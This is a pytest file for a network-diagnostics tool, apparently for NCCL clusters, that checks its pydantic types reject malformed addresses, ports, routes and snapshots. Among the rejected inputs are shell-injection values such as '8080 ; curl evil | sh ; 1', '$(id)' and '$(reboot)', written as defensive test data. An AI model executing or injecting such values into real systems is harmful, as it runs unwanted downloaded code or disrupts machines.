"""No fact is anything but what its type says, live or out of a file."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import BaseModel, TypeAdapter, ValidationError

from nccl_doctor.model.base import InterfaceName, IpAddress, IpNetwork, Netmask, Version, unknown
from nccl_doctor.model.ports import TcpSocket
from nccl_doctor.snapshot.hosts import Snapshot
from nccl_doctor.snapshot.network import InterfaceAddress, PortRange, Route
from nccl_doctor.snapshot.system import Clock, PythonInfo
from tests.checks.snapshots import healthy, patched

ROUTE = {"family": "inet", "destination": "10.0.0.0/24", "gateway": None, "interface": "eno1", "metric": 0}
ADDRESS = {"interface": "eno1", "family": "inet", "address": "10.0.0.1", "netmask": "255.255.255.0"}
SOCKET = {
    "local_address": "::",
    "local_port": 0,
    "remote_address": None,
    "remote_port": None,
    "state": "LISTEN",
    "pid": 1,
}


@pytest.mark.parametrize(
    ("kind", "good", "bad"),
    [
        (
            IpAddress,
            "10.0.0.1 :: fe80::1%eth0 fe80::1%2",
            "10.0.0 10.0.0.1%x 1.2.3.4;id fe80::1%$(id) node1 10.0.0.1/8",
        ),
        (IpNetwork, "10.0.0.0/24 10.0.0.1/24 ::/0", "10.0.0.0/33 x 10.0.0.0/24;id"),
        (Netmask, "255.255.255.0 0.0.0.0 ffff:ffff::", "255.0.255.0 24 0.0.0.255"),
        (InterfaceName, "eth0 eth0:1 br-1a2b veth@if3 лан", ". .. a/b"),
        (Version, "2.13.0+cu126 2.28.9 550.54.14 2.1.0a0+32f93b1", "2.² 1.0;id 1.0'"),
    ],
)
def test_what_a_text_may_be(kind: Any, good: str, bad: str) -> None:
    adapter = TypeAdapter(kind)
    assert [adapter.validate_python(text) for text in good.split()] == good.split()
    for text in [*bad.split(), "", "a b", "x" * 5000, "\ud800", "a\nb", "1\0"]:
        with pytest.raises(ValidationError):
            adapter.validate_python(text)


@pytest.mark.parametrize(
    ("kind", "fact", "change"),
    [
        (Route, ROUTE, {"destination": ""}),
        (Route, ROUTE, {"destination": "::/0"}),
        (Route, ROUTE, {"metric": -1}),
        (InterfaceAddress, ADDRESS, {"netmask": "ffff::"}),
        (InterfaceAddress, ADDRESS, {"address": "10.0.0.256"}),
        (PortRange, {"low": 1, "high": 2}, {"low": 3}),
        (PortRange, {"low": 1, "high": 2}, {"reserved": "0-30000000"}),
        (PortRange, {"low": 1, "high": 2}, {"reserved": "8080 ; curl evil | sh ; 1"}),
        (PortRange, {"low": 1, "high": 2}, {"reserved": [[9, 8]]}),
        (PortRange, {"low": 1, "high": 2}, {"reserved": [[1, 2]] * 40000}),
        (TcpSocket, SOCKET, {"local_port": 65536}),
        (Clock, {"offset_s": -1.5, "error_s": 0}, {"offset_s": float("nan")}),
        (Clock, {"offset_s": -1.5, "error_s": 0}, {"error_s": float("inf")}),
        (PythonInfo, {"executable": "/p", "version": "3.11.7", "prefix": "/"}, {"executable": "/p\ud800"}),
    ],
)
def test_what_a_fact_may_not_be(kind: type[BaseModel], fact: dict[str, Any], change: dict[str, Any]) -> None:
    kind.model_validate(fact)
    with pytest.raises(ValidationError):
        kind.model_validate(fact | change)


def test_reserved_ports_are_ranges_whichever_way_they_come() -> None:
    own = PortRange.model_validate({"low": 9000, "high": 9009, "reserved": "8080,9000-9001"})
    assert (own.reserved, own.reserved_text, own.size) == (((8080, 8080), (9000, 9001)), "8080,9000-9001", 8)
    assert PortRange.model_validate_json(own.model_dump_json()) == own
    assert PortRange(low=1, high=2, reserved="").reserved_text == ""


@given(st.text())
def test_any_text_is_a_list_of_ports_or_refused(text: str) -> None:
    try:
        own = PortRange(low=1, high=65535, reserved=text)
    except ValidationError:
        return
    assert own.reserved_ports <= set(range(65536))
    assert PortRange(low=1, high=65535, reserved=own.reserved_text) == own


def test_a_reason_is_cut_and_not_refused() -> None:
    assert len(unknown("x" * 100_000, "y" * 100_000).model_dump_json()) < 10_000


@pytest.mark.parametrize(
    "change",
    [
        {"cluster": {"nodes": [], "master_addr": "10.0.0.1"}},
        {"cluster": {"master_addr": "10.0.0.1; id"}},
        {"taken_at": "yesterday"},
        {"hosts": {"node1": {"facts": None}}},
        {"hosts": {"node1": {"facts": {"nccl_interface": {"name": "x;id", "address": "1", "nccl_version": None, "source": "libnccl"}}}}},
        {"mesh": {"not_listening": {"elsewhere": "x"}}},
        {"mesh": {"failed": [{"src": "node1", "dst": "x", "address": "10.0.0.2", "port": 1, "outcome": "refused"}]}},
        {"smoke": {"ranks": []}},
        {"smoke": {"output": {"elsewhere": []}}},
        {"timings": {"total": float("nan")}},
    ],
)  # fmt: skip
def test_the_parts_of_a_snapshot_fit_together(change: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        patched(change)


def test_a_snapshot_of_a_file_passes_the_same_types() -> None:
    document = healthy()
    document["hosts"][1]["facts"]["routes"] = [ROUTE | {"destination": "$(reboot)"}]
    with pytest.raises(ValidationError, match=r"hosts\.1\.facts\.routes"):
        Snapshot.model_validate(document)
    assert Snapshot.model_validate_json(patched({}).model_dump_json(by_alias=True)) == patched({})
